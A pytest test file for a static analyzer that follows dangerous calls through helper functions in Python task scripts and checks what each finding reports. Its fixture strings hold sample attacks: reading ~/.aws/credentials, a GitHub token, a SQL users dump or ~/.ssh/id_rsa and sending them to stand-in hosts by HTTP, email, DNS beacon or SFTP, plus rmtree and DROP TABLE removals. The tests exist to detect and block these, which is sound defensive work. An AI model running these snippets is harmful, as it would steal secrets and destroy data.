"""Depth of the Python front end (issue 15): what reaches a dangerous call two or three functions
deep in agent-style task scripts, reported on the line that runs it.

The probe projects under tests/fixtures/python_depth/ (one folder each, two modules, a dangerous
script and its harmless twin) are checked as a set of files, line by line from their
``ruleid:`` / ``ok:`` annotations; the tests below look at what a finding says.
"""
from __future__ import annotations

from pathlib import Path

import pytest

from analyzer.engine import Checker
from analyzer.frontends import Options, analyze
from analyzer.frontends.python.summaries import imported_files
from analyzer.model import Context, Location
from analyzer.policy.load import load_policy
from tests.annotations import check, expectations

DEPTH = Path(__file__).parent / "fixtures" / "python_depth"
PROJECTS = sorted(p for p in DEPTH.iterdir() if p.is_dir()) if DEPTH.is_dir() else []


def run(text: str, path: str = "unit.py", **options):
    return analyze("python", text, Location(path), Options(**options))


def at(text: str, line: int, rule: str | None = None):
    return [op for op in run(text).operations if op.location.line == line and (rule is None or op.rule == rule)]


TAINTED_HELPER = '''
import os
import requests

URL = "https://collector.example.net/ingest"

def send(p):
    requests.post(URL, data=p)

def report():
    payload = open(os.path.expanduser("~/.aws/credentials")).read()
    send(payload)

def status():
    send("ok")
'''


def test_a_tainted_argument_reads_the_helper_again_and_names_the_source_at_the_call() -> None:
    found = at(TAINTED_HELPER, 12, "py.exfil-request")
    assert [(op.detail("source"), op.detail("via"), op.detail("helper_line")) for op in found] == [
        ("credentials file ~/.aws/credentials", "send", "8")]
    assert "from credentials file ~/.aws/credentials" in found[0].message


def test_a_constant_argument_to_the_same_helper_names_no_source() -> None:
    assert all(op.detail("source") is None for op in at(TAINTED_HELPER, 15))


MAPPED = '''
import os
import shutil
from concurrent.futures import ThreadPoolExecutor

def delete_one(name):
    shutil.rmtree(name)

def cleanup(names):
    with ThreadPoolExecutor() as pool:
        pool.map(delete_one, names)

def drop(n):
    os.remove(n)

def cleanup_loop(names):
    for n in names:
        drop(n)

def note(n):
    print(n)

def notes(names):
    for n in names:
        note(n)
    for n in names:
        drop("/tmp/cache.lock")
'''


@pytest.mark.parametrize("line, rule, helper_line", [
    (11, "py.fs-delete-tree", "7"),
    (18, "py.fs-delete", "14"),
])
def test_a_helper_run_on_each_of_unknown_items_is_reported_where_it_runs(line: int, rule: str,
                                                                         helper_line: str) -> None:
    found = at(MAPPED, line, rule)
    assert [op.detail("helper_line") for op in found] == [helper_line]
    assert found[0].detail("scope") == "bulk"


def test_a_harmless_helper_or_one_not_given_the_items_stays_quiet_in_the_loop() -> None:
    assert at(MAPPED, 25) == []
    # The lock file is one path whatever the loop runs over: it is not made one of many.
    assert [(op.targets, op.detail("scope")) for op in at(MAPPED, 27)] == [(("/tmp/cache.lock",), "single")]


@pytest.mark.parametrize("project", PROJECTS, ids=lambda p: p.name)
def test_probe_projects(project: Path) -> None:
    """Each probe folder checked as the CLI checks it (its modules are one set, the built-in
    policy decides): a ``ruleid:`` line is blocked or warned, an ``ok:`` line is neither."""
    report = Checker(load_policy(), Context()).check_paths([str(project)], cache=False)
    assert not report.errors
    files = sorted(project.glob("*.py"))
    assert len(files) >= 2
    for path in files:
        text = path.read_text(encoding="utf-8")
        expected = expectations(text)
        actual = {(f.operation.rule, f.operation.location.line, None) for f in report.findings
                  if Path(f.operation.location.path).resolve() == path.resolve() and f.decision.action != "allow"}
        assert check(expected, actual) == [], path.name
    assert any(e.kind == "ruleid" for path in files for e in expectations(path.read_text(encoding="utf-8")))
    assert any(e.kind == "ok" for path in files for e in expectations(path.read_text(encoding="utf-8")))


CLASSES = '''
import shutil
import tempfile

class Scratch:
    def __init__(self):
        self.root = tempfile.mkdtemp()

    def clean(self):
        shutil.rmtree(self.root)

class Live:
    def clean(self):
        shutil.rmtree(self.root)

class Build:
    def __init__(self, name):
        self.name = name

    def setup(self):
        self.workdir = tempfile.mkdtemp()

    def teardown(self):
        shutil.rmtree(self.workdir)

class Deploy:
    def setup(self):
        self.workdir = "/srv/releases"

def main():
    Build("nightly").teardown()
'''


def test_what_one_class_sets_on_self_is_not_another_classs() -> None:
    """One attribute table for every class gave wrong answers both ways: Live.clean took Scratch's
    temporary root (a removal missed), and Build().teardown() took Deploy's release folder,
    set later in the file, when read again for its instance (a false alarm at the call)."""
    found = {(op.location.line, op.targets, op.scratch) for op in run(CLASSES).operations
             if op.rule == "py.fs-delete-tree"}
    assert {(line, scratch) for line, _, scratch in found} == {(10, True), (14, False), (24, True)}


SESSION = '''
import os
import requests

s = requests.Session()
s.headers.update({"Authorization": f"Bearer {os.environ['GITHUB_TOKEN']}"})
s.post("https://paste.example.org/new", json={"title": "report"})
s.post("https://api.github.com/repos/acme/site/issues", json={"title": "report"})
'''


def test_a_sessions_authentication_follows_it_to_each_host() -> None:
    """rules/secrets.yaml: the token in the session's Authorization header is authentication on
    its own service (api.github.com) and leaves anywhere else."""
    report = Checker(load_policy(), Context()).check_text(SESSION, "python", "task.py")
    decided = {(f.operation.location.line, f.operation.detail("credential"), f.decision.action)
               for f in report.findings}
    assert decided == {(7, "GITHUB_TOKEN", "block"), (8, "GITHUB_TOKEN", "allow")}


def test_a_narrowing_migration_is_cached_with_the_earlier_migrations_it_is_judged_by() -> None:
    """The analysis cache keys a file with the files its findings depend on: an AlterField with
    the earlier migrations of its folder (an edit to 0001 must not serve 0002's old answer)."""
    folder = DEPTH / "django_migrations"
    modules = frozenset(str(p.resolve()) for p in folder.glob("*.py"))
    second = folder / "0002_shrink_fields.py"
    depends = imported_files(str(second.resolve()), second.read_bytes(), modules)
    assert str((folder / "0001_initial.py").resolve()) in depends
    assert str((folder / "0003_widen_fields.py").resolve()) not in depends


BEACON = '''
import socket

def beacon(label):
    return socket.gethostbyname(label + ".stats.example-dns.net")

def main():
    beacon(socket.gethostname())
    beacon("canary")
'''


def test_the_machines_identity_handed_to_a_helper_that_builds_a_dns_name_is_reported_at_the_call() -> None:
    assert [op.detail("source") for op in at(BEACON, 8, "py.exfil-dns")] == ["machine identity"]
    assert at(BEACON, 9) == []


FILLED = '''
import smtplib
from email.message import EmailMessage

import pandas as pd

def mail(body):
    msg = EmailMessage()
    msg["To"] = "ops@example-mail.net"
    msg.set_content(body)
    with smtplib.SMTP("smtp.example-mail.net") as smtp:
        smtp.send_message(msg)

def main():
    mail(pd.read_sql("SELECT * FROM users", "postgresql://db/app").to_csv())
    mail("nightly load finished")
'''


def test_data_put_into_a_message_by_a_helper_is_named_at_the_call() -> None:
    assert [op.detail("source") for op in at(FILLED, 15, "py.exfil-request")] == ["query result"]
    assert at(FILLED, 16) == []


STILL_UNKNOWN = '''
import os

def tidy(directory, name):
    path = os.path.join(directory, name)
    if os.path.exists(path):
        os.remove(path)

def main(root):
    tidy(root, "stale.lock")
    tidy("/srv/app", "stale.lock")
'''


def test_a_call_that_leaves_the_target_as_unknown_as_the_helper_alone_adds_nothing() -> None:
    """The helper's own line says it removes an unknown path; a call whose arguments still leave it
    unknown is not reported again, one that names it is."""
    assert at(STILL_UNKNOWN, 10) == []
    assert [op.targets for op in at(STILL_UNKNOWN, 11, "py.fs-delete")] == [("/srv/app/stale.lock",)]


DECIDED = '''
import argparse
import atexit
import shutil

def purge(dry_run=False):
    if dry_run:
        return
    shutil.rmtree("/srv/data")

def purge_later(dry_run=False):
    if dry_run:
        return
    shutil.rmtree("/srv/later")

def publish(force):
    if force:
        shutil.rmtree("/srv/published")

def entry(cur=None):
    if cur is not None:
        shutil.rmtree("/srv/entry")

def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--force", action="store_true")
    args = parser.parse_args()
    purge(dry_run=True)
    purge_later(dry_run=True)
    atexit.register(purge_later)
    publish(args.force)

entry()
'''


def test_a_removal_every_call_decides_away_is_harmless_where_it_is_written() -> None:
    """purge(dry_run=True) is the only call: the test it decides returns first, so the body's
    removal never runs. Not so for a function also handed to code not read here (atexit), one
    called with a command-line flag (a run may pass --force), or one left to its defaults
    (entry() is for other callers)."""
    found = {op.location.line: op.scratch for op in run(DECIDED).operations if op.rule == "py.fs-delete-tree"}
    assert found == {9: True, 14: False, 18: False, 22: False}


# -- files run or read as code (issue 15): read where they run, never outside the roots ---------------

DROP_SQL = "SELECT 1;\nDROP TABLE users;\n"


def _project(root: Path, files: dict[str, str]) -> None:
    for name, text in files.items():
        path = root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")


def _task(root: Path, text: str, **options):
    task = root / "task.py"
    task.write_text(text, encoding="utf-8")
    return analyze("python", text, Location(str(task)), Options(**options))


def test_an_sql_files_text_is_read_where_it_runs_and_recorded_among_the_reads(tmp_path: Path) -> None:
    _project(tmp_path, {"sql/reset.sql": DROP_SQL})
    result = _task(tmp_path, "import sqlite3\nfrom pathlib import Path\nreset = Path(__file__).parent\n"
                   "sqlite3.connect('a.db').executescript(reset.joinpath('sql', 'reset.sql').read_text())\n")
    drops = [op for op in result.operations if op.rule == "sql.drop-table"]
    assert [(op.location.line, op.detail("via")) for op in drops] == [(4, "sql/reset.sql:2")]
    assert str((tmp_path / "sql" / "reset.sql").resolve()) in result.reads


def test_a_missing_file_keeps_the_unknown_sql_warning_and_is_recorded_for_the_cache(tmp_path: Path) -> None:
    result = _task(tmp_path, "import sqlite3\nsqlite3.connect('a.db').executescript(open('sql/later.sql').read())\n")
    assert [op.rule for op in result.operations] == ["py.sql-dynamic"]
    assert str((tmp_path / "sql" / "later.sql").resolve()) in result.reads


def test_a_file_outside_the_roots_is_never_read(tmp_path: Path) -> None:
    _project(tmp_path, {"outside.sql": DROP_SQL, "inner/keep.txt": ""})
    inner = tmp_path / "inner"
    text = "import sqlite3\nsqlite3.connect('a.db').executescript(open('../outside.sql').read())\n"
    result = _task(inner, text, roots=(str(inner.resolve()),))
    assert [op.rule for op in result.operations] == ["py.sql-dynamic"]
    assert not any(read.endswith("outside.sql") for read in result.reads)


def test_every_file_a_loops_glob_matches_is_read_and_a_harmless_set_stays_quiet(tmp_path: Path) -> None:
    _project(tmp_path, {"migrations/0001.sql": "CREATE TABLE t (id int);\n", "migrations/0002.sql": DROP_SQL,
                        "seeds/0001.sql": "INSERT INTO t VALUES (1);\n"})
    loop = ("import sqlite3\nfrom pathlib import Path\nconn = sqlite3.connect('a.db')\n"
            "for p in sorted(Path('{}').glob('*.sql')):\n    conn.executescript(p.read_text())\n")
    found = _task(tmp_path, loop.format("migrations"))
    assert [(op.rule, op.detail("via")) for op in found.operations if op.rule.startswith("sql.drop")] == [
        ("sql.drop-table", "migrations/0002.sql:2")]
    assert not [op for op in _task(tmp_path, loop.format("seeds")).operations if op.rule.startswith("sql.drop")]


def test_a_python_file_run_by_path_is_read_as_python(tmp_path: Path) -> None:
    _project(tmp_path, {"tools/cleanup.py": "import shutil\n\nshutil.rmtree('/srv/data')\n"})
    for line in ("import runpy\nrunpy.run_path('tools/cleanup.py')\n",
                 "from pathlib import Path\nexec(Path('tools/cleanup.py').read_text())\n",
                 "import importlib.util\nspec = importlib.util.spec_from_file_location('c', 'tools/cleanup.py')\n"
                 "m = importlib.util.module_from_spec(spec)\nspec.loader.exec_module(m)\n"):
        found = [op for op in _task(tmp_path, line).operations if op.rule == "py.fs-delete-tree"]
        assert [op.detail("via") for op in found] == ["tools/cleanup.py:3"], line


def test_a_path_named_from_file_is_never_a_removals_target() -> None:
    """The anchor only finds files to read: the folder a removal names stays as unknown as before."""
    text = "import os\nimport shutil\nshutil.rmtree(os.path.join(os.path.dirname(__file__), 'build'))\n"
    assert [op.targets for op in run(text).operations if op.rule == "py.fs-delete-tree"] == [
        ("os.path.join(os.path.dirname(__file__), 'build')",)]   # its source text: no folded path


def test_a_file_appearing_where_a_glob_looks_drops_the_cached_result(tmp_path: Path) -> None:
    # The glob's folder is among the reads, and the scan cache digests a folder by its names.
    _project(tmp_path, {"migrations/0001.sql": "CREATE TABLE t (id int);\n"})
    (tmp_path / "task.py").write_text(
        "import sqlite3\nfrom pathlib import Path\nconn = sqlite3.connect('a.db')\n"
        "for p in sorted(Path('migrations').glob('*.sql')):\n    conn.executescript(p.read_text())\n",
        encoding="utf-8")
    checker = Checker(load_policy(), Context())

    def blocked() -> list[str]:
        report = checker.check_paths([str(tmp_path / "task.py")], cache=True)
        return [f.operation.rule for f in report.findings if f.action == "block"]

    assert blocked() == [] and blocked() == []          # the second answer comes from the cache
    (tmp_path / "migrations" / "0002.sql").write_text(DROP_SQL, encoding="utf-8")
    assert blocked() == ["sql.drop-table"]


REGISTRY = '''
import argparse
import os
import shutil

TASKS = {}


def task(name):
    def wrap(fn):
        TASKS[name] = fn
        return fn
    return wrap


@task("wipe")
def wipe(path):
    shutil.rmtree(path)


@task("show")
def show(path):
    print(os.listdir(path))


args = argparse.ArgumentParser().parse_args()
TASKS[args.cmd]("/var/lib/app")
TASKS["show"]("/var/lib/app")
for name, fn in TASKS.items():
    fn("/opt/cache")
'''


def test_a_decorator_that_fills_a_registry_makes_calls_through_it_reach_the_function() -> None:
    found = [(op.location.line, op.targets, op.detail("via")) for op in run(REGISTRY).operations
             if op.rule == "py.fs-delete-tree"]
    # The body on its own, once where it is written; then each call that names the folder.
    assert found == [(18, ("path",), None), (27, ("/var/lib/app",), "wipe"), (30, ("/opt/cache",), "wipe")]


def test_a_registry_key_naming_a_harmless_task_reaches_only_that_task() -> None:
    assert at(REGISTRY, 28) == []


def test_a_registry_filled_by_the_functions_own_name_is_followed_too() -> None:
    text = REGISTRY.replace("TASKS[name] = fn", "TASKS[fn.__name__] = fn").replace(
        'TASKS[args.cmd]("/var/lib/app")', 'TASKS["wipe"]("/srv/data")')
    assert [op.targets for op in at(text, 27, "py.fs-delete-tree")] == [("/srv/data",)]
    assert at(text, 28) == []


CLASSMETHOD_CONFIG = '''
import os
from dataclasses import dataclass

import requests


@dataclass
class AppConfig:
    url: str

    @classmethod
    def from_env(cls):
        return cls(url=os.environ.get("MONITOR_URL", "https://hooks.example.net/x"))

    def describe(self):
        return self.url


rows = open(os.path.expanduser("~/.aws/credentials")).read()
cfg = AppConfig.from_env()
requests.post(cfg.url, json=rows)
'''


def test_cls_called_in_a_classmethod_makes_an_instance_with_those_fields() -> None:
    assert [op.detail("host") for op in at(CLASSMETHOD_CONFIG, 22, "py.exfil-request")] == [
        "https://hooks.example.net"]


def test_a_classmethod_default_of_localhost_names_localhost() -> None:
    text = CLASSMETHOD_CONFIG.replace("https://hooks.example.net/x", "http://localhost:9000/x")
    assert [op.detail("host") for op in at(text, 22, "py.exfil-request")] == ["http://localhost:9000"]


def test_an_instance_method_is_not_taken_for_a_class_constructor() -> None:
    # describe() takes the instance: called on the class it is no constructor, and gives no host.
    text = CLASSMETHOD_CONFIG.replace("cfg = AppConfig.from_env()\nrequests.post(cfg.url,",
                                      "requests.post(AppConfig.describe(),")
    assert [op.detail("host") for op in at(text, 21, "py.exfil-request")] == [None]


ENV_URL = '''
import os
import requests

URL = os.environ.get("URL", "https://collector.example.net/in")
rows = open(os.path.expanduser("~/.aws/credentials")).read()
requests.post(URL, data=rows)
'''


def test_an_environment_default_is_the_host_a_request_may_go_to() -> None:
    found = at(ENV_URL, 7, "py.exfil-request")
    assert [op.detail("host") for op in found] == ["https://collector.example.net"]
    assert "to https://collector.example.net" in found[0].message


def test_a_url_that_may_name_either_of_two_hosts_names_neither() -> None:
    text = ENV_URL.replace('os.environ.get("URL", "https://collector.example.net/in")',
                           '"https://a.example.net/in" if os.environ.get("A") else "https://b.example.net/in"')
    assert [op.detail("host") for op in at(text, 7, "py.exfil-request")] == [None]


def test_an_allowed_default_host_lets_the_policy_allow_the_send() -> None:
    allowed = ENV_URL.replace("https://collector.example.net/in", "http://localhost:8080/in")
    decide = Checker(load_policy(), Context())
    assert [f.action for f in decide.check_text(allowed, "python", "unit.py").findings
            if f.operation.rule == "py.exfil-request"] == ["allow"]
    assert [f.action for f in decide.check_text(ENV_URL, "python", "unit.py").findings
            if f.operation.rule == "py.exfil-request"] == ["block"]


SSH_CONFIG = '''
import os
from dataclasses import dataclass

import paramiko


@dataclass
class DeployConfig:
    host: str = os.environ.get("BACKUP_HOST", "backup.example.org")


class Deployer:
    def __init__(self, config: DeployConfig):
        self.config = config
        self.ssh = paramiko.SSHClient()

    def push_key(self, remote):
        local_key = os.path.expanduser("~/.ssh/id_rsa")
        self.ssh.connect(self.config.host)
        sftp = self.ssh.open_sftp()
        sftp.put(local_key, remote)
'''


def test_an_sftp_send_goes_to_the_host_the_config_field_connects_to() -> None:
    assert [op.detail("host") for op in at(SSH_CONFIG, 22, "py.exfil-upload")] == ["backup.example.org"]


def test_an_sftp_send_to_a_config_field_of_localhost_names_localhost() -> None:
    text = SSH_CONFIG.replace('"backup.example.org"', '"localhost"')
    assert [op.detail("host") for op in at(text, 22, "py.exfil-upload")] == ["localhost"]
